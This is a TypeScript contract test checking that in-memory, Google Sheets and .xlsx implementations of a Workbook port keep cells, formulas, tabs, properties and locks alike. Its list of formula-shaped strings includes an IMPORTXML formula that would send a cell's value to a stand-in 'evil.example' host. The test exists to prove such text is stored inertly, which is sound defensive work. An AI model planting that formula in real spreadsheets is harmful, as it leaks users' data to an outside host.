/**
 * One contract for the Workbook port, run against each implementation: in memory (what core
 * tests use), Google Sheets (the Apps Script adapter over the strict stand-ins, inside an
 * execution) and .xlsx (the CLI's exceljs adapter, saved and loaded again). Core relies on
 * exactly these behaviours; an adapter that drifts fails here, not in a user's workbook.
 */
import { mkdtempSync } from 'node:fs';
import { tmpdir } from 'node:os';
import path from 'node:path';
import { type Cell, formula, isFormula, type WorkbookPort } from '../../src/core/workbook/port';
import { SpreadsheetWorkbook } from '../../src/gas/spreadsheet-workbook';
import { XlsxWorkbook } from '../../src/xlsx/xlsx-workbook';
import { FakeEnvironment } from '../fakes/spreadsheet-app';
import { MemoryWorkbook } from '../support/memory-workbook';

const USER = 'kominfo.admin@example.org';

interface Subject {
  readonly wb: WorkbookPort;
  /** Runs a step as one execution (Sheets) or plainly (the others). */
  run<T>(step: () => T): T;
  /** The same workbook as a later execution or a reopened file sees it. */
  reopen(): Promise<Subject>;
}

function memory(): Subject {
  const wb = new MemoryWorkbook(USER);
  const subject: Subject = { wb, run: (step) => step(), reopen: async () => subject };
  return subject;
}

function sheets(): Subject {
  const env = new FakeEnvironment(USER);
  const services = env.services();
  const run = <T>(step: () => T): T => {
    const saved = Object.fromEntries(
      Object.keys(services).map((k) => [k, (globalThis as Record<string, unknown>)[k]]),
    );
    if (env.rt.current) return step(); // already inside this execution (a nested port call)
    Object.assign(globalThis, services);
    try {
      return env.rt.run({ kind: 'menu', authMode: 'FULL', activeUser: USER }, step);
    } finally {
      Object.assign(globalThis, saved);
    }
  };
  const open = (): Subject => {
    const wb = run(() => new SpreadsheetWorkbook());
    // Every port call of the Sheets adapter is a service call: each runs inside an execution.
    const inExecution = new Proxy(wb, {
      get(target, prop) {
        const value = (target as unknown as Record<PropertyKey, unknown>)[prop];
        return typeof value === 'function'
          ? (...args: unknown[]) =>
              run(() => (value as (...a: unknown[]) => unknown).apply(target, args))
          : value;
      },
    });
    return { wb: inExecution, run: (step) => step(), reopen: async () => open() };
  };
  return open();
}

function xlsx(): Subject {
  const dir = mkdtempSync(path.join(tmpdir(), 'spbe-contract-'));
  const file = path.join(dir, 'contract.xlsx');
  const wrap = (wb: XlsxWorkbook): Subject => ({
    wb,
    run: (step) => step(),
    reopen: async () => {
      await wb.save(file);
      return wrap(await XlsxWorkbook.load(file, USER));
    },
  });
  return wrap(new XlsxWorkbook(undefined, USER));
}

const IMPLEMENTATIONS: [string, () => Subject][] = [
  ['in memory', memory],
  ['Google Sheets (Apps Script adapter)', sheets],
  ['.xlsx (exceljs adapter)', xlsx],
];

const CELLS: Cell[][] = [
  ['Kode', 'Penjelasan', 'Tingkat', 'Aktif'],
  ['I01', 'Ditetapkan 2026-02-10 dengan Perwali.', 3, true],
  ['I02', '2026-02-10', '1,5', '13,14'],
  ['I03', formula('=B2'), 'TRUE', "'awal kutip"],
];

/** Text that a spreadsheet would run, were it written as typed (R14). */
const FORMULA_SHAPED = [
  '=IMPORTXML("https://evil.example/"&A1;"//a")',
  '+62 812 3456',
  '+A1',
  '-A1+1',
  '@SUM(A1)',
  "'=1+1",
  ' =1+1',
];

/** Cells with each formula as its text alone (a read also says what it showed). */
function plain(cells: readonly (readonly Cell[])[] | undefined) {
  return cells?.map((r) => r.map((c) => (isFormula(c) ? { formula: c.text } : c)));
}

describe.each(IMPLEMENTATIONS)('the Workbook port: %s', (_, make) => {
  it('has no tab it was not given, and reads a missing tab as undefined', () => {
    const { wb } = make();
    expect(wb.read('Tidak ada')).toBeUndefined();
    expect(wb.lastRow('Tidak ada')).toBe(0);
  });

  it('keeps what is written: text stays text (even when it looks like a date or a number), numbers and booleans stay, formulas stay formulas', async () => {
    const s = make();
    s.wb.ensureTab('Uji', 'spbe:uji');
    expect(s.wb.write('Uji', { cells: CELLS })).toBe(true);
    const again = await s.reopen();
    expect(plain(again.wb.read('Uji')?.cells)).toEqual(plain(CELLS));
  });

  it('writes a string as text whatever it starts with, through every way of writing (R14)', async () => {
    const s = make();
    s.wb.ensureTab('Uji', 'spbe:uji');
    s.wb.write('Uji', { cells: [FORMULA_SHAPED] });
    s.wb.writeCells('Uji', 2, 1, [FORMULA_SHAPED]);
    s.wb.append('Uji', [FORMULA_SHAPED]);
    const again = await s.reopen();
    const cells = again.wb.read('Uji')?.cells ?? [];
    expect(cells).toEqual([FORMULA_SHAPED, FORMULA_SHAPED, FORMULA_SHAPED]);
    expect(cells.flat().some(isFormula)).toBe(false);
  });

  it('reads a formula back as the same formula, in whatever spelling it keeps it (R18)', async () => {
    const s = make();
    s.wb.ensureTab('Uji', 'spbe:uji');
    s.wb.ensureTab('Data lain', 'spbe:data');
    s.wb.write('Data lain', { cells: [[2]] });
    const written = [[formula("=if('Uji'!B1=\"\";'Data lain'!A1; sum('Uji'!B1))"), 5]];
    s.wb.write('Uji', { cells: written });
    const again = await s.reopen();
    expect(isFormula(again.wb.read('Uji')?.cells[0]?.[0])).toBe(true);
    // Setup writes what it plans; the same plan again writes nothing.
    expect(again.wb.write('Uji', { cells: written })).toBe(false);
  });

  it('writes nothing when the content is the same, and reports a change otherwise', async () => {
    const s = make();
    s.wb.ensureTab('Uji', 'spbe:uji');
    s.wb.write('Uji', { cells: CELLS });
    const again = await s.reopen();
    expect(again.wb.write('Uji', { cells: CELLS })).toBe(false);
    const changed = CELLS.map((r) => [...r]);
    (changed[1] as Cell[])[2] = 4;
    expect(again.wb.write('Uji', { cells: changed })).toBe(true);
    expect(again.wb.read('Uji')?.cells[1]?.[2]).toBe(4);
  });

  it('finds a tab by its mark after a rename, and gives it the asked name', async () => {
    const s = make();
    s.wb.ensureTab('Bappeda', 'spbe:opd:BAPPEDA');
    s.wb.write('Bappeda', { cells: [['Kode'], ['I13']] });
    s.wb.ensureTab('Bappeda Kota', 'spbe:opd:BAPPEDA');
    const again = await s.reopen();
    expect(
      again.wb
        .tabs()
        .filter((t) => t.key === 'spbe:opd:BAPPEDA')
        .map((t) => t.name),
    ).toEqual(['Bappeda Kota']);
    expect(again.wb.read('Bappeda Kota')?.cells).toEqual([['Kode'], ['I13']]);
    // Asked under its old name, the tab is still found by its mark; an unmarked one by name.
    expect(again.wb.tabName('spbe:opd:BAPPEDA', 'Bappeda')).toBe('Bappeda Kota');
    expect(again.wb.tabName('spbe:opd:BAPPEDA', 'Bappeda Kota')).toBe('Bappeda Kota');
    expect(again.wb.tabName('spbe:tidak-ada', 'Bappeda Kota')).toBe('Bappeda Kota');
    expect(again.wb.tabName('spbe:tidak-ada', 'Tidak ada')).toBeUndefined();
  });

  it('writes a block of cells, appends rows below the last, and counts rows', async () => {
    const s = make();
    s.wb.ensureTab('Log', 'spbe:log');
    s.wb.write('Log', { cells: [['Waktu', 'Oleh']] });
    s.wb.append('Log', [
      ['2026-11-28 10:00', USER],
      ['2026-11-28 10:05', USER],
    ]);
    s.wb.writeCells('Log', 2, 2, [['diubah']]);
    const again = await s.reopen();
    expect(again.wb.lastRow('Log')).toBe(3);
    expect(again.wb.read('Log')?.cells).toEqual([
      ['Waktu', 'Oleh'],
      ['2026-11-28 10:00', 'diubah'],
      ['2026-11-28 10:05', USER],
    ]);
  });

  it('keeps document properties: set, read, list by prefix, delete', async () => {
    const s = make();
    s.wb.ensureTab('Uji', 'spbe:uji');
    s.wb.setProperty('uji.a', '1');
    s.wb.setProperty('uji.b', 'dua');
    s.wb.setProperty('lain', 'x');
    s.wb.deleteProperty('uji.a');
    const again = await s.reopen();
    expect(again.wb.property('uji.b')).toBe('dua');
    expect(again.wb.property('uji.a')).toBeNull();
    expect(again.wb.propertiesWithPrefix('uji.')).toEqual({ 'uji.b': 'dua' });
  });

  it('runs work under the document lock, and refuses a second holder with a message', () => {
    const { wb } = make();
    expect(wb.withLock(() => 7)).toBe(7);
    expect(() => wb.withLock(() => wb.withLock(() => 1))).toThrow(
      /sedang diperbarui oleh proses lain/,
    );
  });

  it('knows who runs it', () => {
    expect(make().wb.userEmail()).toBe(USER);
  });
});
